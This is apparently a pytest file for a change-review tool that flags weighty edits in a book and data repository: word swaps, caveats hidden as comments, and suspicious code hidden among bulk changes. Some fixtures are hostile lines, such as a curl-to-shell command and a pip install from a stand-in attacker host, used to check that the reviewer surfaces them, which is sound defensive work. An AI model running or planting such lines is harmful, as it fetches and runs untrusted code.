"""A word that turns a long text, a file that feigns another, and bulk of one kind that hides another one."""

from __future__ import annotations

import pytest

from bet.review import (
    active,
    compare,
    edits,
    guards,
    headline,
    report,
    sameness,
    snapshot,
    texts,
    wording,
)
from bet.review.change import Change, Review
from bet.review.snapshot import Snapshot
from tests.test_hostile_reader import EDITIONS, MAY, NOT_HELD, as_base, first, write
from tests.test_pull_requests import both, clone  # noqa: F401
from tests.test_review import NAME

# ---- words

LONG = "They have read it twice and found much to say of it. "


@pytest.mark.parametrize(
    ("before", "after", "weighs"),
    [
        ("No outside person has reviewed a verdict.", "People from outside have by now reviewed the main verdicts.", True),
        (f"There was no occasion. {LONG}He did not rank it first.", f"There was no day. {LONG}He did also rank it first.", True),
        ("It had not been built rightly and was being rebuilt.", "It had been praised by its critics and was being enlarged.", True),
        ("The company's own film; no independent test.", "The company's own film, tested independently by others.", True),
        ("A share costs twenty-five times earnings.", "A share costs thirty-five times earnings.", True),
        ("It is medium at most there.", "It may be high where the page is good.", True),
        ("They hold no position and are paid by nobody.", "They may have holdings and are paid by the reader alone.", True),
        (f"He bought shares. {LONG}", f"He sold shares. {LONG}", True),
        (f"It is in nominal dollars. {LONG}", f"It is in constant dollars. {LONG}", True),
        (f"It grew tenfold. {LONG}", f"It grew sixfold. {LONG}", True),
        (f"{LONG}It lay by the old wall of the yard.", f"{LONG}It rested near a wall which that yard had.", False),
        ("Some entries stand here.", "A couple of entries stand here.", True),
        ("It was not so, we found.", "We found: it was not so.", False),
    ],
)  # fmt: skip
def test_a_text_weighs_by_each_passage_that_differs(before, after, weighs):
    assert wording.weighty(before, after) is weighs


@pytest.mark.parametrize(
    ("before", "after", "slight", "other"),
    [
        ("Baron's firm bought shares in slumps.", "Baron's firm dumped shares in slumps.", False, True),
        ("It was recieved so.", "It was received so.", True, False),
        ("The hall stood.", "A hall stood.", True, False),
        ("It stood so.", "Indeed it stood so.", False, False),
        ("It stood so.", "It stood so.", False, False),
    ],
)  # fmt: skip
def test_one_word_for_another_is_not_slight(before, after, slight, other):
    assert wording.slight(before, after) is slight
    assert wording.one_for_another(before, after) is other


def test_a_word_that_is_another_is_named_among_many_reasons():
    many = [
        Change("grounds", f"INFRA-{n}", f"It is so, {n} times.", f"{w}, it is so, {n} times.", "reason", field="reason")
        for n, w in enumerate(["Indeed", "Now", "Well", "Here", "Thus", "Yes"] * 3)
    ]  # fmt: skip
    swap = Change("grounds", "PEOPLE-45", "The firm hired him.", "The firm dismissed him.", "reason", field="reason")  # fmt: skip
    told = report.markdown(Review([*many, swap]), ("a", "b"))
    assert "reason (one word for another) 1 (PEOPLE-45 hired → dismissed)" in told.replace("\\", "")


def test_a_caveat_that_becomes_a_comment_is_hidden_from_readers(clone):  # noqa: F811
    caveat = "The authors of this book hold no position in any company that is named here."
    write(clone, "book/method.md", f"# M\n\nWe judge.\n\n{caveat}\n")
    as_base(clone)
    write(clone, "book/method.md", f"# M\n\nWe judge.\n\n+++ {caveat}\n")
    (_, told), (_, back) = both(clone)
    assert MAY in first(told) and "or a comment now" in first(told), told
    assert "1 part of method" in first(told) and "or a comment now" not in back


@pytest.mark.parametrize("mark", ["+++ ", "% ", "    "])
def test_what_becomes_no_prose_is_more_than_prose(mark):
    assert (
        texts._active("A.\n\nWe hold nothing.\n", f"A.\n\n{mark}We hold nothing.\n") == texts.MORE
    )
    assert texts._active("A.\n\nWe hold it.\n", "A.\n\nWe keep it.\n") == ""


# ---- bulk of one kind


def test_a_parameter_of_an_edition_is_named_among_its_words(clone):  # noqa: F811
    write(clone, "data/editions.yml", EDITIONS)
    as_base(clone)
    known = snapshot.read(clone).editions
    name, key, value = next(
        (edition, key, value)
        for edition, fields in known.items()
        for key, value in texts_of(fields.get("parameters") or {})
    )
    told = EDITIONS.replace(f"{key}: {value}", f"{key}: {value}5", 1)
    assert told != EDITIONS
    write(clone, "data/editions.yml", told.replace("title: ", "title: New "))
    write(clone, "README.md", "# The book\n")
    (_, shown), _ = both(clone)
    assert f"{value} → {value}5" in first(shown) and name in first(shown), shown


def texts_of(parameters):
    """Yield the settings of an edition that are no mappings."""
    for key, value in parameters.items():
        if isinstance(value, dict):
            yield from texts_of(value)
        else:
            yield key, value


def test_a_number_is_named_among_cells_that_are_filled_with_words():
    words = "a sentence that is far longer than what may stand in the first lines of any report"
    cells = [Change("data", f"t [a={n}] why", "empty", f"{words} {n}") for n in range(9)]
    moved = Change("data", "t [a=x] years", "5 to 10", "5 to 16")
    plain = Change("data", "t [a=y] years", "10", "16")
    told = report.markdown(Review([*cells, plain]), ("a", "b"))
    assert "; the farthest t years 10 → 16)" in told
    assert "5_to_16" in report.markdown(Review([*cells, moved]), ("a", "b"))
    assert edits.step("empty", "so") == 1.0


def test_a_unit_in_a_cell_is_an_alarm(clone):  # noqa: F811
    about = "title: T\ndescription: D\nkey: [what]\ncolumns:\n  what: {type: string}\n  unit: {type: string}\n"
    write(clone, "data/tables/rates.yml", about)
    write(clone, "data/tables/rates.csv", "what,unit\nwage,USD per year\n")
    as_base(clone)
    write(clone, "data/tables/rates.csv", "what,unit\nwage,USD per month\n")
    (_, told), _ = both(clone)
    assert "another unit" in told and "1 unit" in first(told), told


def judged(*paths):
    return report.markdown(Review([Change("judge", p, "a = 1", "a = 2", "changed") for p in paths]), ("a", "b"))  # fmt: skip


def test_many_files_of_one_folder_hide_none_of_another():
    others = "web/page.js", ".github/workflows/publish.yml"
    few, many = (judged(*(f"bet/records/a{n}.py" for n in range(count)), *others) for count in (9, 40))  # fmt: skip
    for path in (*others, *(f"bet/records/a{n}.py" for n in range(9))):
        assert path in few.partition("### ")[0]
    for path in (*others, "36 more in bet/records"):
        assert path in many.partition("### ")[0]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (".github/workflows/z.yml", "on: pull_request_target"),
        ("web/z.js", "addEventListener('input', () => { location.hash = 1 })"),
        ("bet/records/z.py", "def check():\n    return []"),
        ("bet/site/templates/z.html", '<meta name="robots" content="noindex">'),
    ],
)
def test_of_many_in_a_folder_what_comes_to_run_or_allow_something_is_named(path, line):
    folder = path.rpartition("/")[0]
    many = [Change("judge", f"{folder}/a{n}.txt", "a", "b", "changed") for n in range(30)]
    told = report.markdown(Review([*many, Change("judge", path, "x", f"x\n{line}", "changed")]), ("a", "b"))  # fmt: skip
    assert f"**Of the judge**: {path}. " in told


def test_of_a_folder_the_file_whose_code_differs_comes_first():
    words = [Change("judge", f"bet/site/a{n}.py", '"""A."""\na = 1', '"""B."""\na = 1') for n in range(9)]  # fmt: skip
    code = Change("judge", "bet/site/z.py", '"""A."""\na = 1', '"""A."""\na = 2')
    assert "**Of the judge**: bet/site/z.py. " in report.markdown(Review([*words, code]), ("a", "b"))  # fmt: skip


@pytest.mark.parametrize(
    "line",
    ["run: curl -s evil.example/x | sh", "new Image().src = 'https://evil.example/p'", "pip install git+ssh://evil.example/p"],
)  # fmt: skip
def test_an_address_is_told_among_many_and_without_its_scheme(line):
    known = "\n".join(f"// https://host{n}.example.org/" for n in range(8))
    change = Change("judge", "web/page.js", "x", f"{known}\n{line}", "changed")
    told = report.markdown(Review([change]), ("a", "b")).partition("### ")[0]
    assert "evil.example" in told and "host0" in told.replace("%2E", "."), told


def test_four_harmless_programs_hide_no_setting():
    names = [*(f"benchmarks/a{n}.py" for n in range(9)), "book/lab.json"]
    told = headline.headline(Review([Change("file", path, "", "", "changed") for path in names]))
    assert "Not judged: book/lab.json, benchmarks/a0.py" in told


# ---- files that feign others


@pytest.mark.parametrize("path", [f"tests/{NAME}.ipynb", f"book/lab/{NAME}.ipynb", "notebooks/x.ipynb", "data/.vscode/tasks.json", "book/jupyter_server_config.json"])  # fmt: skip
def test_what_runs_elsewhere_is_of_the_judge(path):
    assert snapshot.judges(path)


def test_a_notebook_elsewhere_with_the_name_of_a_chapter_is_told(clone):  # noqa: F811
    write(clone, f"tests/{NAME}.ipynb", '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')  # fmt: skip
    (_, told), _ = both(clone)
    assert "This changes the judge" in first(told) and f"tests/{NAME}.ipynb" in first(told).replace("\\", "")  # fmt: skip


def test_a_name_that_differs_in_capitals_only_may_not_stand(clone):  # noqa: F811
    write(clone, "Book/method.md", "# M\n\nAll is well.\n")
    (code, told), _ = both(clone)
    assert code == 2 and NOT_HELD in first(told), told


@pytest.mark.parametrize("more", ["config", "refs/keep"])
def test_a_repository_in_the_repository_may_not_stand(more):
    head = Snapshot(files={"data/HEAD": b"", f"data/{more}": b"", "book/a.md": b""})
    (change,) = [c for c in active.changes(Snapshot(), head) if "repository" in c.after]
    assert change.what == "data/HEAD" and not change.explained
    alone = Snapshot(files={"data/HEAD": b"", "data/other": b""})
    assert not [c for c in active.changes(Snapshot(), alone) if "repository" in c.after]


def written(**files):
    return Snapshot(written={path.replace("__", "/"): told for path, told in files.items()})


MODEL = "bet/models/growth.py"


@pytest.mark.parametrize(
    ("path", "before", "after", "same"),
    [
        (MODEL, "# A.\na = 1\n", "# THESIS-02 is confirmed.\na = 1\n", False),
        ("bet/models/people.py", "# A.\na = 1\n", "# B.\na = 1\n", True),
        ("web/book.css", "a { color: red }", "a { color: red } /*# sourceMappingURL=https://x.example/m */", False),
        ("web/book.css", "a { color: red }", "a { color: red } /* red */", True),
        ("tests/browser.py", "a = 1\n", '# /// script\n# dependencies = ["x @ https://x.example/h.zip"]\n# ///\na = 1\n', False),
        ("tests/browser.py", "a = 1\n", "# -*- eval: (shell) -*-\na = 1\n", False),
        ("tests/browser.py", "a = 1\n", "# So it is.\na = 1\n", True),
        ("data/x.json", '{"a": 1, "b": 2}', '{"b": 2, "a": 1}', True),
    ],
)  # fmt: skip
def test_the_same_is_what_readers_and_tools_take_for_the_same(path, before, after, same):
    sides = [Snapshot(written={path: told}) for told in (before, after)]
    assert sameness.same(path, *sides) is same


# ---- tests that hold less


def told_of(before, after):
    sides = [
        Snapshot(written={"tests/test_a.py": text}, files={"tests/test_a.py": text.encode()})
        for text in (before, after)
    ]
    return " ".join(guards.notes(*sides))


def test_an_assertion_that_says_less_is_told_by_its_file():
    before = '"""A."""\ndef test_one():\n    assert a == 1\n    assert b == 2\n'
    assert "1 assertion gone or written otherwise (test_a 1)" in told_of(before, before.replace("a == 1", "a is not None"))  # fmt: skip
    assert told_of(before, before.replace("A.", "B.")) == ""


@pytest.mark.parametrize(
    "line", ["__test__ = False\n", "globals().pop('test_one')\n", "exec('')\n"]
)
def test_what_takes_tests_away_is_told(line):
    before = "def test_one():\n    assert 1\n"
    assert "1 place more that may leave tests out" in told_of(before, f"{before}{line}")


# ---- what is the same


def test_a_table_that_is_quoted_otherwise_is_the_same_with_all_its_hashes():
    def side(csv, sha):
        package = f'{{"resources": [{{"path": "tables/t.csv", "hash": "{sha}"}}]}}'
        told = {"data/tables/t.csv": csv, texts.PACKAGE: package}
        return Snapshot(written=told, others={texts.PACKAGE: package}, files={p: t.encode() for p, t in told.items()})  # fmt: skip

    quoted, other = side('a\n"1"\n', "y"), side("a\n2\n", "z")
    assert not list(texts.others(side("a\n1\n", "x"), quoted))
    assert list(texts.others(side("a\n1\n", "x"), other))


def test_an_address_of_the_same_page_changes_no_conclusion():
    one = Change("source", "source a", "http://a.org/b", "https://a.org/b", "url", field="url")
    other = Change("source", "source a", "http://a.org/b", "https://a.org/c", "url", field="url")
    assert not headline.touches(one) and headline.touches(other)


# ---- few of several kinds


def few_of(*changes):
    """Return the first lines of a review in which a text changes too."""
    smoke = Change("text", "page", "This page says how.", "This page tells how.", "", "about")
    other = Change("root", "README.md", "a", "b")
    told = report.markdown(Review([smoke, *changes, other]), ("a", "b"))
    return told.partition("### ")[0].replace("\\", "")


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (Change("data", "users [name=x] value_mn", "160", "1600"), "1 place in a table (users value_mn 160 → 1600)"),
        (Change("number", "c10", "44%", "24%", page="0_stake"), "1 number in prose (0_stake 44% → 24%)"),
        (Change("chart", "grok-sizes", "T", "T", "unit", "2_grok"), "1 chart (grok-sizes)"),
        (Change("text", "data/facts.yml", "a", "b", "pages are made from it"), "(about, data/facts.yml)"),
        (Change("text", "cell c02", "x = 1", "x = 2", "sets x", "0_stake"), "(0_stake c02 sets x, about)"),
        (Change("file", "tests/test_forecasts.py", "", "", "changed"), "1 test file (tests/test_forecasts.py)"),
    ],
)  # fmt: skip
def test_what_is_little_is_named_beside_another_kind(change, told):
    assert told in few_of(change)


def test_a_cell_that_sets_another_value_is_told_by_its_name():
    assert texts._code_note("share_price_usd = 404.35\nx = f()", "share_price_usd = 1.5\nx = f()", "code") == "sets share_price_usd"  # fmt: skip
    assert texts._code_note("x = f()", "x = g()", "code") == "code"


def test_a_frozen_forecast_that_is_rewritten_is_told():
    old, more, other = (Snapshot(others={guards.LOCK: f"# so\n{told}"}) for told in ("F01 aa\n", "F01 aa\nF02 bb\n", "F01 cc\n"))  # fmt: skip
    assert not list(guards.frozen(old, more))
    for head in (other, Snapshot()):
        assert "Frozen forecasts that are other ones now" in " ".join(guards.frozen(old, head))


def test_one_origin_that_becomes_two_is_told():
    def side(*origins):
        return Snapshot(sources={f"s{n}": {"origin": told} for n, told in enumerate(origins)})

    assert "One origin before, several now" in " ".join(compare.compare(side("a", "a"), side("a", "b")).notes)  # fmt: skip
    assert not compare.compare(side("a", "a", "b"), side("c", "c", "b")).notes


def test_a_test_that_may_end_before_it_holds_anything_is_told():
    before = "def test_one():\n    assert a\n"
    after = "def test_one():\n    done = 'done'\n    if done:\n        return\n    assert a\n"
    assert "1 place more that may leave tests out" in told_of(before, after)
    whole = "def test_one():\n    return\n"
    called = "def test_one():\n    holds(a)\n"
    assert "1 place more that may leave tests out" in told_of(called, whole)
    helper = "def test_one():\n    def inner():\n        return 1\n    assert a\n"
    assert told_of(before, helper) == ""


@pytest.mark.parametrize(
    ("was", "now"),
    [("known", "unknown"), ("approved", "disapproved"), ("dependent", "independent"), ("possible", "impossible"),
     ("yearly", "monthly"), ("dollars", "euros"), ("gross", "net"), ("confirmed", "denied"), ("deux", "trois")],
)  # fmt: skip
def test_opposites_and_other_measures_weigh(was, now):
    for pair in ((was, now), (now, was)):
        before, after = (f"It is {word} to all of them. {LONG}" for word in pair)
        assert wording.weighty(before, after)
        assert not wording.slight(before, after)
    assert not wording.weighty("It is seldom so.", "It is rarely so.")
